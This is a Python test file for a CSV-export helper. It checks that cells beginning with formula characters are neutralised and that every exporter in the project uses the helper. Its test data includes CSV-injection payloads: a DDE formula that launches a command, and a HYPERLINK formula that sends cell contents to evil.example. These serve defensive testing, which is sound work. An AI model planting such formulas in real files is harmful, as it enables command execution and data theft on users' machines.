# SPDX-License-Identifier: EUPL-1.2
"""CSV written by FlagDesk cannot smuggle a formula into a spreadsheet, and there is one writer."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from flagdesk.core.csvsafe import safe_cell, to_csv

ROOT = Path(__file__).resolve().parents[2]
HELPER = ROOT / "core" / "csvsafe.py"


@pytest.mark.parametrize(
    "payload",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\uff1d1+1",
    ],
)
def test_a_formula_lead_is_defused(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-12", "+3.5", "0", "X", "nos.nl", "a=b", "Gemeente"])
def test_numbers_and_plain_text_stay_as_they_are(value: str) -> None:
    assert safe_cell(value) == value


def test_the_document_round_trips_with_every_cell_safe() -> None:
    text = to_csv(("name", "=header"), [("=cmd|' /C calc'!A0", 3), (None, "line\nbreak")])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [
        ["name", "'=header"],
        ["'=cmd|' /C calc'!A0", "3"],
        ["", "line\nbreak"],
    ]


def test_every_csv_writer_goes_through_the_helper() -> None:
    # A new export that calls csv.writer itself would skip the formula check.
    direct = re.compile(r"csv\.(writer|DictWriter)\(|from csv import")
    offenders = [
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if path != HELPER
        and "tests" not in path.parts
        and direct.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == [], f"use flagdesk.core.csvsafe.to_csv instead: {offenders}"
